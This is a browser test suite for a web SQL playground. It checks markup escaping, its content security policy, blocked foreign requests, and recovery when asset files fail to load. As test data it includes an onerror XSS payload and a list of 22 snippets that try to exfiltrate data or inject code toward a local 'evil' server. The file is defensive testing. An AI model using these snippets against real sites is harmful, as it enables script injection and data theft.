/** Web security and delivery: what reaches the page, what leaves it, and what happens when files do not come. */
import { readdirSync, readFileSync } from 'node:fs'
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { browser, openPage, site, withSite } from '../e2e/site'
import { dialects, type Dialect } from '../../src/sql/dialect'
import { Desk } from './desk'

let desk: Desk | undefined
withSite()
afterEach(async () => {
  await desk?.close()
  desk = undefined
})

test('one piece of markup in every place that shows text stays text', async () => {
  desk = await Desk.open(browser, site)
  const { page } = desk
  const markup = '<img src=x onerror="window.__xss=1">'
  const name = `"${markup.replaceAll('"', '""')}"`
  const text = `'${markup}'`
  await desk.run(
    `CREATE TABLE ${name} (${name} text, n int); INSERT INTO ${name} VALUES (${text}, 1), (${text}, 2); SELECT * FROM ${name}; EXPLAIN QUERY PLAN SELECT * FROM ${name}; SELECT ${text} FROM ${name} WHERE nowhere = ${text}`,
  )
  await desk.result(5).getByRole('alert').waitFor()
  expect((await desk.rows(3))[0]).toEqual([markup, '1'])
  await page
    .getByRole('treeitem', { name: /img src=x/ })
    .first()
    .waitFor()
  await desk.result(3).getByRole('tab', { name: 'Chart' }).click()
  await desk.result(3).getByRole('img').first().waitFor()
  await desk.button('History').click()
  await page.getByRole('dialog').getByText('CREATE TABLE').first().waitFor()
  await page.keyboard.press('Escape')
  await desk.choose('postgres')
  await desk.run(`DO $$ BEGIN RAISE NOTICE '%', ${text}; END $$; SELECT ${text}::int`)
  expect(await desk.result(1).getByRole('listitem').innerText()).toContain(markup)
  expect(await desk.result(2).getByRole('alert').innerText()).toContain('onerror')
  expect(
    await page.evaluate(() => ['__xss' in window, document.querySelectorAll('img[src=x]').length]),
  ).toEqual([false, 0])
  expect(desk.watch.complaints).toEqual([])
})

test('the pages, both engines and their workers ask nobody but the site', async () => {
  const { page, watch } = await openPage(browser, site)
  const asked: string[] = []
  page.context().on('request', (request) => asked.push(request.url()))
  for (const route of ['', '#/learn', '#/compare', '#/api', '#/play']) {
    await page.goto(site.url + route)
    await page.getByRole('main').waitFor()
  }
  desk = new Desk(page, watch)
  for (const dialect of dialects) {
    await desk.choose(dialect)
    expect(await desk.ask('SELECT count(*) FROM sales')).toEqual([['50']])
  }
  // the probe sees what workers ask for
  for (const file of [/worker-sqlite/, /worker-postgres/, /pgdata/]) expect(asked.join('\n')).toMatch(file)
  expect(asked.filter((url) => !url.startsWith(site.url) && !url.startsWith('blob:'))).toEqual([])
  expect(watch.complaints).toEqual([])
})

describe('the content policy', () => {
  /** What reached the other server. */
  const reached: string[] = []
  const evil = createServer((request, response) => {
    reached.push(request.url ?? '')
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
    response.end('globalThis.__ran = true')
  })
  evil.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '')
    socket.destroy()
  })
  let evilUrl = ''
  beforeAll(async () => {
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve))
    evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`
  })
  afterAll(() => void evil.close())

  /** Each tries to get something out, or foreign code in; `u` is the other server. */
  const attacks: Readonly<Record<string, string>> = {
    fetch: 'fetch(u + "/fetch", { mode: "no-cors" })',
    XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", u + "/xhr"); x.send()',
    beacon: 'navigator.sendBeacon(u + "/beacon", "secret")',
    WebSocket: 'new WebSocket(u.replace("http", "ws") + "/socket")',
    EventSource: 'new EventSource(u + "/events")',
    image: 'new Image().src = u + "/image"',
    script: 'const s = document.createElement("script"); s.src = u + "/script"; document.head.append(s)',
    module: 'await import(u + "/module")',
    'inline script':
      'const s = document.createElement("script"); s.text = "globalThis.__ran = true"; document.head.append(s)',
    eval: 'eval("globalThis.__ran = true")',
    Function: 'new Function("globalThis.__ran = true")()',
    'string timer': 'setTimeout("globalThis.__ran = true", 0)',
    'style sheet':
      'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = u + "/style"; document.head.append(l)',
    prefetch:
      'const l = document.createElement("link"); l.rel = "prefetch"; l.href = u + "/prefetch"; document.head.append(l)',
    frame: 'const f = document.createElement("iframe"); f.src = u + "/frame"; document.body.append(f)',
    object: 'const o = document.createElement("object"); o.data = u + "/object"; document.body.append(o)',
    form: 'const f = document.createElement("form"); f.action = u + "/form"; f.method = "post"; f.target = "_blank"; document.body.append(f); f.submit()',
    'background in a style': 'document.body.style.background = `url(${u}/background)`',
    video: 'const v = document.createElement("video"); v.src = u + "/video"; document.body.append(v)',
    base: 'const b = document.createElement("base"); b.href = u + "/base/"; document.head.prepend(b); new Image().src = "relative"',
    'markup with a handler': 'document.body.innerHTML += `<img src="x" onerror="globalThis.__ran = true">`',
    'worker by address': 'new Worker(u + "/worker")',
  }

  test(`stops ${Object.keys(attacks).length} ways out and in`, async () => {
    const { page, watch } = await openPage(browser, site)
    desk = new Desk(page, watch)
    await page.goto(`${site.url}#/play`)
    await desk.button('Run').waitFor()
    const stopped: string[] = []
    for (const [name, code] of Object.entries(attacks)) {
      // from a timer: what the driver itself evaluates may do more than the policy allows
      await page
        .evaluate(
          `new Promise((done) => setTimeout(async (u) => { try { ${code} } catch {} done() }, 0, ${JSON.stringify(evilUrl)}))`,
        )
        .catch(() => null)
      stopped.push(name)
    }
    await page.waitForTimeout(500)
    expect(reached).toEqual([])
    expect(await page.evaluate(() => '__ran' in globalThis)).toBe(false)
    expect(stopped.length).toBe(22)
  })

  test.each(dialects)('reaches the worker of %s: no eval, no foreign request', async (dialect) => {
    desk = await Desk.open(browser, site)
    await desk.choose(dialect)
    await desk.run('SELECT 1')
    const worker = desk.page.workers().at(-1)
    expect(worker?.url()).toMatch(/^blob:/)
    const escaped = await worker?.evaluate((url) => {
      const ways: Record<string, () => unknown> = {
        eval: () => {
          ;(0, eval)('1')
        },
        fetch: () => fetch(`${url}/from-worker`, { mode: 'no-cors' }),
        import: () => import(/* @vite-ignore */ `${url}/worker-module`) as Promise<unknown>,
      }
      const attempt = async () => {
        const out: string[] = []
        for (const [name, way] of Object.entries(ways)) {
          try {
            await way()
            out.push(name)
          } catch {
            // refused
          }
        }
        return out
      }
      // from a timer, as above
      return new Promise<string[]>((resolve) => setTimeout(() => void attempt().then(resolve), 0))
    }, evilUrl)
    expect(escaped).toEqual([])
    expect(reached).toEqual([])
  })
})

describe.each(dialects)('when the files of %s do not come', (dialect) => {
  const file: Record<Dialect, RegExp> = { sqlite: /sql-wasm.*\.wasm$/, postgres: /pglite\.wasm.*\.gz$/ }
  const folder = join(process.env.SITE ?? 'dist', 'assets')
  const content = () =>
    readFileSync(join(folder, readdirSync(folder).find((name) => file[dialect].test(name)) ?? ''))
  const faults: readonly (readonly [string, (response: ServerResponse) => void, RegExp | null])[] = [
    ['404', (r) => r.writeHead(404).end('gone'), /answered 404/],
    ['500', (r) => r.writeHead(500).end(), /answered 500/],
    [
      'a page to sign in',
      (r) => r.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><p>Sign in</p>'),
      /web page arrived instead/,
    ],
    [
      'a cut file',
      (r) => r.writeHead(200).end(content().subarray(0, 100_000)),
      /could not be (loaded|started)/,
    ],
    ['a cut connection', (r) => r.destroy(), /could not be loaded/],
    ['the wrong type', (r) => r.writeHead(200, { 'content-type': 'text/plain' }).end(content()), null],
  ]

  test('404, 500, a sign-in page, a cut file and a cut connection are said; Try again helps; the text is kept', async () => {
    desk = await Desk.open(browser, site)
    // loading PostgreSQL again and again takes long: what differs from SQLite there is that its files are packed
    const tried = dialect === 'sqlite' ? faults : faults.filter(([name]) => /404|cut file|sign in/.test(name))
    for (const [name, answer, words] of tried) {
      site.fault = (path, _, response) => {
        if (!file[dialect].test(path)) return false
        answer(response)
        return true
      }
      const { page, watch } = await openPage(browser, site)
      const visit = new Desk(page, watch)
      await page.goto(`${site.url}#/play`)
      await visit.choose(dialect)
      const editor = page.getByRole('textbox', { name: 'SQL editor' })
      await editor.focus()
      await page.keyboard.press('ControlOrMeta+a')
      await page.keyboard.insertText(`SELECT 42 AS "${name}"`)
      if (words !== null) {
        const alert = page.getByRole('alert').filter({ hasText: 'could not start' })
        await alert.waitFor()
        expect([name, await alert.innerText()]).toEqual([name, expect.stringMatching(words)])
        await expect.poll(() => editor.innerText()).toContain(name)
        site.fault = null
        await visit.button('Try again').click()
        await alert.waitFor({ state: 'detached' })
      }
      await visit.button('Run').click()
      expect([name, await visit.rows(1)]).toEqual([name, [['42']]])
      await visit.close()
    }
  })
})

test('a page that a new version of the site has removed says so once, and one reload helps', async () => {
  desk = await Desk.open(browser, site)
  await desk.button('Run').waitFor()
  site.fault = (path, _, response) => {
    if (!/\/(Learn|Compare)-[^/]*\.js$/.test(path)) return false
    response.writeHead(404).end()
    return true
  }
  let loads = 0
  desk.page.on('framenavigated', () => loads++)
  await desk.page.evaluate(() => (location.hash = '#/compare'))
  await desk.page.getByText('This page did not arrive').waitFor()
  expect(loads).toBeLessThan(3) // the change of the hash, and no loop of reloads
  site.fault = null
  await desk.button('Reload').click()
  await desk.page.getByText('This page did not arrive').waitFor({ state: 'detached' })
})

test('a part that a new version has removed leaves editor, text and data usable', async () => {
  desk = await Desk.open(browser, site)
  await desk.run('CREATE TABLE keep (a int); INSERT INTO keep VALUES (1)')
  site.fault = (path, _, response) => {
    if (!/\/(worker-postgres|pgdata|Chart)[^/]*$/.test(path)) return false
    response.writeHead(404).end()
    return true
  }
  await desk.choose('postgres')
  await desk.page.getByRole('alert').filter({ hasText: 'PostgreSQL could not start' }).waitFor()
  await desk.choose('sqlite')
  expect(await desk.ask('SELECT count(*) FROM keep')).toEqual([['1']])
})

test('there is no service worker that could serve an old page, and every file of the build has its content in its name', () => {
  const folder = process.env.SITE ?? 'dist'
  const named = readdirSync(join(folder, 'assets')).filter((name) => !/-[\w-]{8}\.\w+$/.test(name))
  expect(named).toEqual([])
  const page = readFileSync(join(folder, 'index.html'), 'utf8')
  const scripts = readdirSync(join(folder, 'assets')).filter((name) => name.endsWith('.js'))
  expect(page).not.toContain('serviceWorker')
  for (const name of scripts)
    expect(readFileSync(join(folder, 'assets', name), 'utf8')).not.toContain('serviceWorker.register')
})

describe('in an old or locked-down browser', () => {
  async function visit(script: () => void): Promise<Page> {
    desk = await Desk.open(browser, site, { script })
    return desk.page
  }
  test('without WebAssembly it is said, and the editor works', async () => {
    const page = await visit(() => Reflect.deleteProperty(globalThis, 'WebAssembly'))
    await page
      .getByRole('alert')
      .getByText(/cannot run WebAssembly/)
      .waitFor()
    await page.getByRole('textbox', { name: 'SQL editor' }).focus()
    await page.keyboard.insertText('SELECT 1')
  })

  test('without workers it is said', async () => {
    const page = await visit(() => {
      Object.assign(globalThis, {
        Worker: class {
          constructor() {
            throw new DOMException('Workers are off', 'SecurityError')
          }
        },
      })
    })
    await page.getByRole('alert').filter({ hasText: 'could not start' }).waitFor()
  })

  test('without private files, locks and CompressionStream everything works', async () => {
    await visit(() => {
      Reflect.deleteProperty(StorageManager.prototype, 'getDirectory')
      Reflect.deleteProperty(Navigator.prototype, 'locks')
      Reflect.deleteProperty(globalThis, 'CompressionStream')
      Reflect.deleteProperty(globalThis, 'BroadcastChannel')
    })
    expect(await desk?.ask('SELECT count(*) FROM sales')).toEqual([['50']])
    await desk?.run('DELETE FROM sales')
    await desk?.page.getByText('Saved in this browser', { exact: true }).waitFor()
  })
})
